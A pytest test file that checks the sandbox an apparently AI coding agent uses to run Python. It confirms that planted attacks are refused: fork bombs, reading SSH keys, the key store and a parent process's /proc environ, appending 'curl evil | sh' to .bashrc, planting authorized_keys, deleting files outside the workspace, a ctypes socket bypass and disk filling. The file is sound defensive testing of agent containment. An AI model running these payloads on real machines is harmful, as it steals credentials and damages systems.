"""Attacks on the coder's sandbox through its public `run_python` (and once through the
coder's review of an answer): a fork bomb, reading the person's secrets, writing outside the
workspace, opening sockets and filling the disk. Each ends with one clear message in the
RunResult, nothing of ours hurt and the workspace intact.

The person's secrets are planted: HOME points at a temp folder holding ~/.ssh/id_rsa, and the
test's MYNINJA_HOME holds a file key store with a key, the config and another task's files.
Every fork bomb below also carries a safety net of its own (it stops growing past a few hundred
processes) so that a broken sandbox fails the test rather than the machine.
"""

from __future__ import annotations

import os
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from myninja import paths
from myninja.backends.keys import KeyStore
from myninja.skills.api import Draft, Permission, ToolContext
from myninja.skills.coder import process_cgroup
from myninja.skills.coder import skill as coder
from myninja.skills.coder.review import review
from myninja.skills.coder.sandbox import (
    RunResult,
    SandboxLimits,
    Workspace,
    network_isolation_available,
    run_python,
)

pytestmark = pytest.mark.slow  # real subprocesses

SSH_KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAAplantedfake\n"
API_KEY = "sk-planted-7c1e5a9b3d"
OTHER_TASK_SECRET = "notes of another task"
READ_HOME = "sandbox: reading the user's files is not allowed"
READ_OURS = "sandbox: reading myninja's own files is not allowed"
READ_PROC = "sandbox: reading another process's"
WRITE_REFUSED = "sandbox: writing outside the workspace is not allowed"
NETWORK_REFUSED = "sandbox: network access is not allowed"


@pytest.fixture
def real_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The person's HOME, as the process calling the sandbox sees it, with a private key."""
    home = tmp_path / "person"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(SSH_KEY)
    (home / ".ssh" / "id_rsa").chmod(0o600)
    (home / ".bashrc").write_text("# the person's shell\n")
    monkeypatch.setenv("HOME", str(home))
    return home


@pytest.fixture
def ws(real_home: Path, myninja_home: Path) -> Workspace:
    """A task's workspace where the app puts it (inside the data folder), next to the key
    store, the config and another task's workspace."""
    store = KeyStore("file")
    store.set("gw", API_KEY)
    assert store.file == paths.data_dir() / "keys.json"
    paths.config_file().write_text('[keys]\nstore = "file"\n')
    other = Workspace.for_task("t_other", paths.data_dir() / "workspaces")
    other.write("notes.txt", OTHER_TASK_SECRET)
    workspace = Workspace.for_task("t_attack", paths.data_dir() / "workspaces")
    workspace.write("keep.txt", "the task's own file\n")
    return workspace


def intact(ws: Workspace) -> None:
    assert ws.read("keep.txt") == "the task's own file\n"
    assert ws.tmp.is_dir()


def attempts(cases: dict[str, str], refused: str = "sandbox:") -> str:
    """Code that tries each statement and prints NAME REFUSED (a PermissionError starting with
    `refused`), NAME ALLOWED, or NAME and the other error."""
    return "import os, pathlib, shutil, sqlite3\n" + "".join(
        f"try:\n    {statement}\n    print({name!r}, 'ALLOWED')\n"
        f"except PermissionError as e:\n"
        f"    print({name!r}, 'REFUSED' if str(e).startswith({refused!r}) else repr(e))\n"
        f"except Exception as e:\n    print({name!r}, repr(e))\n"
        for name, statement in cases.items()
    )


def outcomes(result: RunResult) -> dict[str, str]:
    assert result.exit_code == 0, result.stderr
    return dict(line.split(" ", 1) for line in result.stdout.splitlines())


def group_members(pgid: int) -> list[int]:
    """Live processes (zombies do not count) of a process group."""
    members = []
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            fields = Path(f"/proc/{name}/stat").read_text().rpartition(")")[2].split()
        except OSError:
            continue
        if int(fields[2]) == pgid and fields[0] != "Z":
            members.append(int(name))
    return members


def gone_within(pgid: int, seconds: float) -> bool:
    deadline = time.monotonic() + seconds
    while group_members(pgid) and time.monotonic() < deadline:
        time.sleep(0.05)
    return not group_members(pgid)


CGROUP = process_cgroup.available()  # the kernel counts each run's processes

# -- a fork bomb -----------------------------------------------------------------------------------

# Each process logs its pid once; past 400 of them the bomb stops growing (the safety net).
BOMB_PRELUDE = """
import os, sys, time
open("group", "w").write(str(os.getpgrp()))
def log():
    with open("pids", "a") as out:
        out.write(f"{os.getpid():>8}\\n")
    if os.path.getsize("pids") > 9 * 400:
        time.sleep(120)
log()
"""

BOMBS = {
    "os.fork-loop": BOMB_PRELUDE + "while True:\n    if os.fork() == 0:\n        log()\n",
    "multiprocessing": BOMB_PRELUDE
    + (
        "import multiprocessing as mp\n"
        "def hold():\n    log()\n    time.sleep(120)\n"
        "if __name__ == '__main__':\n"
        "    while True:\n"
        "        mp.get_context('fork').Process(target=hold, daemon=True).start()\n"
    ),
}


@pytest.mark.heavy  # loads the machine on purpose, if briefly
@pytest.mark.parametrize("bomb", list(BOMBS))
def test_a_fork_bomb_stops_at_the_process_limit(ws: Workspace, bomb: str) -> None:
    limits = SandboxLimits(wall_s=20, processes=12)
    result = run_python(BOMBS[bomb], workspace=ws, limits=limits)
    pids = set(ws.read("pids").split())
    assert result.killed_reason == "processes", result.stderr[-2000:]
    assert not result.timed_out and result.exit_code in (1, -9)
    assert result.summary().startswith(f"stopped: process limit 12; exit {result.exit_code};")
    assert result.stderr.endswith("[sandbox] stopped: process limit 12\n")
    # The hook refuses with its message. Concurrent forks may each see room for one more: where
    # a pids cgroup counts as well, the kernel refuses those (EAGAIN) at the limit exactly;
    # without one, at most about twice the limit get through.
    kernel_refused = CGROUP and "BlockingIOError: [Errno 11]" in result.stderr
    assert result.refusal == "sandbox: process limit reached (12 processes)" or kernel_refused
    assert len(pids) <= (1 if CGROUP else 2) * limits.processes, len(pids)
    assert result.duration_s < 15
    assert gone_within(int(ws.read("group")), 5), "part of the bomb outlived the run"
    assert subprocess.run(["true"], check=False).returncode == 0  # we can still start programs
    intact(ws)


@pytest.mark.heavy  # loads the machine on purpose, if briefly
def test_a_fork_bomb_that_ignores_refusals_ends_at_the_wall_time(ws: Workspace) -> None:
    code = BOMB_PRELUDE + (
        "while True:\n"
        "    try:\n        pid = os.fork()\n    except OSError:\n        pid = None\n"
        "    if pid == 0:\n        log()\n"
        "    time.sleep(0.05)\n"
    )
    limits = SandboxLimits(wall_s=3, processes=8)
    result = run_python(code, workspace=ws, limits=limits)
    if CGROUP and result.killed_reason == "processes":
        # the kernel refused a racing fork: a second later the run is stopped, before its time
        assert result.duration_s < limits.wall_s and "stopped: process limit 8" in result.summary()
    else:
        assert result.killed_reason == "wall time" and result.timed_out
        assert "timed out after 3 s (wall time)" in result.summary()
    assert len(set(ws.read("pids").split())) <= 2 * limits.processes
    assert gone_within(int(ws.read("group")), 5), "part of the bomb outlived the run"
    intact(ws)


@pytest.mark.heavy  # loads the machine on purpose, if briefly
def test_programs_started_where_allowed_count_towards_the_limit(ws: Workspace) -> None:
    code = (
        "import os, subprocess\n"
        "open('group', 'w').write(str(os.getpgrp()))\n"
        "for _ in range(60):\n    subprocess.Popen(['sleep', '60'])\n"
    )
    limits = SandboxLimits(wall_s=20, processes=6)
    result = run_python(code, workspace=ws, limits=limits, allow_subprocess=True)
    assert result.killed_reason == "processes", result.stderr
    # A pids cgroup refuses the fork (the program fails); else, under the kernel's confinement,
    # the programs are counted from outside and killed; in-process, the hook refuses them.
    exit_code = -9 if result.confinement == "kernel" and not CGROUP else 1
    assert result.summary().startswith(f"stopped: process limit 6; exit {exit_code};")
    assert gone_within(int(ws.read("group")), 5), "a program outlived the run"


# -- reading the person's secrets ------------------------------------------------------------------


def test_reading_the_persons_secrets_is_refused(ws: Workspace, real_home: Path) -> None:
    ssh = real_home / ".ssh" / "id_rsa"
    keys, config = paths.data_dir() / "keys.json", paths.config_file()
    other = paths.data_dir() / "workspaces" / "t_other" / "notes.txt"
    home_cases = {
        "open": f"open({str(ssh)!r}).read()",
        "pathlib": f"pathlib.Path({str(ssh)!r}).read_bytes()",
        "os.open": f"os.read(os.open({str(ssh)!r}, os.O_RDONLY), 100)",
        "copy-in": f"shutil.copyfile({str(ssh)!r}, 'stolen')",
        "symlink-in": f"os.symlink({str(ssh)!r}, 'link'); open('link').read()",
        "relative": f"open(os.path.relpath({str(ssh)!r})).read()",
        "listdir": f"os.listdir({str(ssh.parent)!r})",
        "bashrc": f"open({str(real_home / '.bashrc')!r}).read()",
    }
    our_cases = {
        "keys.json": f"open({str(keys)!r}).read()",
        "keys-via-dotdot": "open('../../keys.json').read()",
        "config": f"open({str(config)!r}).read()",
        "other-task": f"open({str(other)!r}).read()",
        "history-ro": f"sqlite3.connect('file:{paths.data_dir()}/history.db?mode=ro', uri=True)",
    }
    proc_cases = {
        "parent-environ": "open(f'/proc/{os.getppid()}/environ').read()",
        "parent-cmdline": "open(f'/proc/{os.getppid()}/cmdline').read()",
        "parent-mem": "open(f'/proc/{os.getppid()}/mem', 'rb').read(1)",
    }
    for cases, refused in ((home_cases, READ_HOME), (our_cases, READ_OURS)):
        result = run_python(attempts(cases, refused), workspace=ws)
        assert outcomes(result) == dict.fromkeys(cases, "REFUSED"), result.stdout
    # (in a user namespace the kernel would refuse these too; without one only the hook does)
    result = run_python(attempts(proc_cases, READ_PROC), workspace=ws)
    assert outcomes(result) == dict.fromkeys(proc_cases, "REFUSED"), result.stdout
    assert not (ws.root / "stolen").exists()

    # One uncaught: the run fails with the refusal as its message.
    result = run_python(f"print(open({str(ssh)!r}).read())", workspace=ws)
    assert (result.exit_code, result.killed_reason) == (1, None)
    assert result.refusal == f"{READ_HOME}: {ssh}"
    assert f"{READ_HOME}: {ssh}" in result.summary()
    assert "planted" not in result.stdout + result.stderr
    intact(ws)


def test_what_code_needs_to_read_still_reads(ws: Workspace) -> None:
    """The standard library, site-packages, the workspace and the system's files."""
    code = (
        "import json, os, sqlite3, email.mime.text, pytest, httpx\n"
        "print(len(open(json.__file__).read()) > 0)\n"
        "print(len(open(pytest.__file__).read()) > 0)\n"
        "print(open('keep.txt').read().strip())\n"
        "print(sorted(os.listdir('.')))\n"
        "print(len(open('/etc/passwd').read()) > 0)\n"
        "print(open('/proc/self/environ').read().count('HOME=') == 1)\n"
    )
    result = run_python(code, workspace=ws, limits=SandboxLimits(wall_s=60))
    assert result.exit_code == 0, result.stderr
    assert result.stdout.splitlines() == [
        "True",
        "True",
        "the task's own file",
        "['keep.txt', 'tmp']",
        "True",
        "True",
    ]


def test_a_branch_reads_its_own_task_s_files_but_no_other_task_s(ws: Workspace) -> None:
    branch = Workspace.for_task("b1", ws.root / ".branches")  # as the graph lays them out
    code = (
        "print(open('../../keep.txt').read().strip())\nopen('../../../t_other/notes.txt').read()\n"
    )
    result = run_python(code, workspace=branch)
    assert result.stdout == "the task's own file\n"
    other = paths.data_dir() / "workspaces" / "t_other" / "notes.txt"
    assert result.refusal == f"{READ_OURS}: {other}"
    assert OTHER_TASK_SECRET not in result.stdout + result.stderr


# -- writing outside -------------------------------------------------------------------------------


def test_writing_the_persons_files_is_refused(ws: Workspace, real_home: Path) -> None:
    bashrc, keys = real_home / ".bashrc", paths.data_dir() / "keys.json"
    before = {bashrc: bashrc.read_bytes(), keys: keys.read_bytes()}
    cases = {
        "append-bashrc": f"open({str(bashrc)!r}, 'a').write('curl evil | sh')",
        "replace-keys": f"open({str(keys)!r}, 'w').write('{{}}')",
        "authorized_keys": f"open({str(real_home / '.ssh' / 'authorized_keys')!r}, 'w')",
        "remove-keys": f"os.remove({str(keys)!r})",
        "escape-upwards": "open('../../../../escaped', 'w')",
        "rmtree-workspace-parent": "shutil.rmtree('..')",
    }
    result = run_python(attempts(cases, WRITE_REFUSED), workspace=ws)
    assert outcomes(result) == dict.fromkeys(cases, "REFUSED"), result.stdout
    assert {path: path.read_bytes() for path in before} == before
    assert not (real_home / ".ssh" / "authorized_keys").exists()
    assert (paths.data_dir() / "workspaces" / "t_other" / "notes.txt").exists()
    intact(ws)


# -- the network -----------------------------------------------------------------------------------


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    received.append(conn.recv(100))
                except OSError:
                    received.append(b"")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join(2)
    server.close()


def test_sockets_reach_nothing(ws: Workspace, listener: tuple[int, list[bytes]]) -> None:
    port, received = listener
    cases = {
        "tcp": f"socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'x')",
        "udp": f"socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {port}))",
        "dns": "socket.getaddrinfo('example.com', 443)",
        "listen": "socket.socket().bind(('0.0.0.0', 0))",
        "unix-outside": "socket.socket(socket.AF_UNIX).connect('/run/anything.sock')",
    }
    code = "import socket\n" + attempts(cases, NETWORK_REFUSED)
    result = run_python(code, workspace=ws)
    expected = dict.fromkeys(cases, "REFUSED")
    if result.confinement == "kernel":  # the kernel's filter refuses the Unix socket itself
        expected["unix-outside"] = "PermissionError(1, 'Operation not permitted')"
    assert outcomes(result) == expected, result.stdout
    assert result.network_isolation == network_isolation_available()
    # through libc, under the hook: only the kernel stops this one
    ctypes_connect = (
        "import ctypes, socket, struct\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "s = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)\n"
        f"a = struct.pack('=HH4s8x', socket.AF_INET, socket.htons({port}), "
        "socket.inet_aton('127.0.0.1'))\n"
        "print(libc.connect(s, a, len(a)))\n"
    )
    sneaky = run_python(ctypes_connect, workspace=ws)
    if result.network_isolation == "namespace":
        assert sneaky.stdout.strip() == "-1", sneaky.stderr
    time.sleep(0.3)
    if result.network_isolation == "namespace":
        assert received == []
    intact(ws)


# -- filling the disk ------------------------------------------------------------------------------

DISK_FILLERS = {
    "write-loop": (
        "with open('big.bin', 'wb') as out:\n"
        "    while True:\n        out.write(b'x' * 1024 * 1024)\n"
    ),
    "os.write-loop": (
        "import os\nfd = os.open('big.bin', os.O_WRONLY | os.O_CREAT)\n"
        "while True:\n    os.write(fd, b'x' * 65536)\n"
    ),
    "seek-far": "with open('big.bin', 'wb') as out:\n    out.seek(10**12)\n    out.write(b'x')\n",
    "truncate-huge": "with open('big.bin', 'wb') as out:\n    out.truncate(10**12)\n",
}


@pytest.mark.parametrize("filler", list(DISK_FILLERS))
def test_filling_the_disk_stops_at_the_file_size_limit(ws: Workspace, filler: str) -> None:
    limits = SandboxLimits(wall_s=30, file_mb=2)
    result = run_python(DISK_FILLERS[filler], workspace=ws, limits=limits)
    assert result.killed_reason == "file size", result.stderr
    assert result.exit_code != 0 and not result.timed_out
    assert result.summary().startswith("stopped: file size limit 2 MB;")
    assert "[sandbox] stopped: file size limit 2 MB" in result.stderr
    big = ws.root / "big.bin"
    assert big.stat().st_size <= 2 * 1024 * 1024
    assert big.stat().st_blocks * 512 <= 2 * 1024 * 1024 + 65536
    intact(ws)


# -- through the coder's review of an answer -------------------------------------------------------


class Tools:
    """A Draft's `use`: the coder skill's real tools on the branch's folder."""

    def __init__(self, folder: Path) -> None:
        self.context = ToolContext("t1", workspace_dir=folder, granted=frozenset(Permission))
        self.results: list[str] = []

    async def use(self, name: str, arguments: dict[str, Any]) -> str:
        result = await coder.skill.tool(name).call(arguments, self.context)
        self.results.append(result)
        return result


async def test_an_answer_that_reads_the_ssh_key_fails_its_review(
    ws: Workspace, real_home: Path
) -> None:
    ssh = real_home / ".ssh" / "id_rsa"
    answer = f"This prints your key:\n\n```python\nprint(open({str(ssh)!r}).read())\n```\n"
    folder = ws.root / "branches" / "b1"
    tools = Tools(folder)
    draft = Draft(
        task="show my key",
        agent="coder",
        task_id="t1",
        use=tools.use,
        workspace=folder,
        text=answer,
        branch_id="b1",
        revision=0,
    )
    checked = await review(draft)
    assert checked is not None and checked.passed is None  # the sandbox's doing, not the code's
    assert checked.verdict == (
        "solution.py: not checked: the sandbox refused it (reading the user's files is not allowed)"
    )
    report = "\n".join(tools.results)
    assert f"{READ_HOME}: {ssh}" in report
    assert "planted" not in report + (checked.feedback or "") + checked.verdict
    intact(ws)
